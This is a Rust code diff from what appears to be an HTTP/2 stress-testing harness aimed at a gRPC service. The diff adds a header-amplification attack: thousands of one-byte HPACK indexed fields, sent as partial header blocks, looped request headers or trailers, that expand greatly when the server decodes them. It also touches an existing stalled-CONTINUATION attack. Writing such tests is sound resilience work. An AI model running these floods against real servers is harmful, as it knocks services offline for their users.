@@ -7,11 +7,11 @@ use std::time::Duration;
 
 use tokio::time::{Instant, sleep, timeout_at};
 
-use crate::cases::{Act, Calls, Case, Frame, Trick};
+use crate::cases::{Act, Calls, Case, Frame, Place, Trick};
 use crate::data;
 use crate::wire::{
-    CONTINUATION, DATA, END_STREAM, HEADERS, OPEN, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire,
-    put,
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, OPEN, PING, PRIORITY, RST_STREAM, SETTINGS,
+    WINDOW_UPDATE, Wire, put,
 };
 
 const GET: &str = "/school.v1.School/GetSchool";
@@ -36,7 +36,7 @@ pub(crate) async fn attack(case: &'static Case, to: SocketAddr, of: u32, until: 
 
 async fn once(case: &Case, to: SocketAddr, of: u32) -> io::Result<()> {
     let path = match case.act {
-        Act::Drip { stalled: true, .. } => SYNC,
+        Act::Drip { stalled: true, .. } | Act::Fields(_) => SYNC,
         Act::Drip { .. } => RECORD,
         _ => GET,
     };
@@ -49,6 +49,7 @@ async fn once(case: &Case, to: SocketAddr, of: u32) -> io::Result<()> {
         Act::Reset(trick) => reset(&mut wire, trick).await?,
         Act::Drip { stalled, chunk } => data::drip(&mut wire, stalled, chunk).await?,
         Act::HalfHeaders => half_headers(&mut wire).await?,
+        Act::Fields(place) => fields(&mut wire, place).await?,
         Act::Flood(frame) => flood(&mut wire, frame).await?,
         Act::Idle | Act::Honest => {}
     }
@@ -131,9 +132,39 @@ async fn reset(wire: &mut Wire, trick: Trick) -> io::Result<()> {
     }
 }
 
+/// Fields of one byte each, which take some 70 bytes once they are decoded.
+async fn fields(wire: &mut Wire, place: Place) -> io::Result<()> {
+    // The static table's `accept-charset` without a value.
+    let fields = [0x80 | 15; 16_000];
+    let mut out = Vec::new();
+    match place {
+        Place::HalfBlock => {
+            put(&mut out, HEADERS, 0, 1, &fields);
+            wire.send(&out).await
+        }
+        Place::Heads => loop {
+            out.clear();
+            for _ in 0..64 {
+                wire.put_call_with(&mut out, 0, &fields);
+            }
+            wire.send(&out).await?;
+        },
+        Place::Trailers => {
+            let streams: Vec<_> = (0..wire.room().min(BATCH)).map(|_| wire.put_call(&mut out, 0)).collect();
+            wire.send(&out).await?;
+            for stream in streams {
+                out.clear();
+                put(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &fields);
+                wire.send(&out).await?;
+            }
+            Ok(())
+        }
+    }
+}
+
 async fn half_headers(wire: &mut Wire) -> io::Result<()> {
-    // A literal field, new name, whose value of some 2 MB never gets complete. In full frames, and few of them: h2 ends
-    // a connection at about the sixth CONTINUATION of a block.
+    // A literal field, new name, whose value of some 2 MB never gets complete. In full frames: h2 ends a connection
+    // over many small ones.
     let mut block = b"\x83\x86\x40\x01x\x7f\x81\xff\x7f".to_vec();
     block.resize(16_384, b'x');
     let mut out = Vec::new();
